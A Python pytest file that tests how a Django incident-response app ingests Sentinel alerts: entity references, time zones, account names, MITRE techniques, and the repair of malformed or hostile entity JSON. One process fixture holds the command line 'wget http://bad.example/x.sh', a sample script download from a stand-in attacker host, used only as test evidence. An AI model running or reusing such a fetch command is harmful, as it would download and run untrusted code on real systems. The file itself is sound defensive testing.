import json
from datetime import UTC, datetime
from typing import Any

import pytest

from incidents.models import Alert
from tests.factories.wire import sentinel_alert, stored

pytestmark = pytest.mark.django_db

HOST = {"$id": "1", "HostName": "SRV-07", "DnsDomain": "corp.example", "Type": "host"}
ACCOUNT = {"$id": "2", "Name": "ian", "UPNSuffix": "corp.example", "Host": {"$ref": "1"}, "Type": "account"}


def became(*entities: dict[str, Any], **fields: Any) -> Alert:
    return stored(sentinel_alert(*entities, **fields), format="sentinel")[0]


def test_times_without_a_zone_are_utc() -> None:
    alert = became(StartTime="2026-11-03T08:15:00.123", EndTime="2026-11-03T08:20:00")
    assert alert.first_activity == datetime(2026, 11, 3, 8, 15, 0, 123000, tzinfo=UTC)


def test_references_between_entities_are_followed() -> None:
    image = {"$id": "3", "Directory": "/usr/bin", "Name": "wget", "Type": "file"}
    command = {"$id": "4", "CommandLine": "wget http://bad.example/x.sh", "ImageFile": {"$ref": "3"},
               "Host": {"$ref": "1"}, "Type": "process"}  # fmt: skip
    seen = became(HOST, image, command).evidence.get(type="process")
    assert seen.device is not None
    assert seen.device.key == "srv-07.corp.example"


def test_an_entity_inside_another_counts_too() -> None:
    inside = {"$id": "9", "Name": "eva", "Host": {**HOST, "$id": "10"}, "Type": "account"}
    assert set(became(inside).evidence.values_list("type", flat=True)) == {"user", "device"}


def test_a_machine_that_only_a_process_names_is_a_device_of_the_alert() -> None:
    command = {"$id": "4", "CommandLine": "id", "Host": {"HostName": "SRV-07"}, "Type": "process"}
    assert set(became(command).evidence.values_list("type", flat=True)) == {"process", "device"}


def test_accounts_get_their_principal_name_from_the_suffix() -> None:
    assert became(HOST, ACCOUNT).evidence.get(type="user").display == "ian@corp.example"


def test_tactics_and_techniques_are_read_in_both_spellings() -> None:
    alert = became(Tactics="InitialAccess, LateralMovement", Techniques='["T1078"]')
    assert (alert.categories, alert.mitre_techniques) == (["InitialAccess", "LateralMovement"], ["T1078"])


def test_extended_properties_are_kept_as_an_object() -> None:
    alert = became(ExtendedProperties=json.dumps({"Compromised Host": "SRV-07"}))
    assert alert.additional_data["ExtendedProperties"] == {"Compromised Host": "SRV-07"}


def test_an_older_row_has_its_severity_in_another_field() -> None:
    assert became(AlertSeverity=None, Severity="High").severity == "high"


@pytest.mark.parametrize("broken", ["[{", "null", "7", '{"$ref": "1"}', '[{"$id": "1", "Host": {"$ref": "1"}}]'])
def test_broken_entities_cost_the_evidence_not_the_alert(broken: str) -> None:
    assert became(Entities=broken).title == "Impossible travel"


HOSTILE_HOST = '[{"$id": "1", "Type": "host", "HostName": %s, "Odd": %s}]'


@pytest.mark.parametrize(
    ("name", "odd"),
    [(r'"srv\u0000x"', "1"), (r'"srv\ud800x"', "1"), ('"srv-x"', "9" * 4000),
     ('"srv-x"', '{"a":' * 300 + "1" + "}" * 300)],
    ids=["nul", "half a character", "huge number", "deep"],
)  # fmt: skip
def test_what_a_text_hides_is_mended_as_well(name: str, odd: str) -> None:
    hostile = {**sentinel_alert(), "Entities": HOSTILE_HOST % (name, odd)}
    neighbour = sentinel_alert(HOST)
    mended, whole = stored(hostile, neighbour, format="sentinel")
    assert mended.evidence.filter(type="device").exists()
    assert mended.marks
    assert not whole.marks
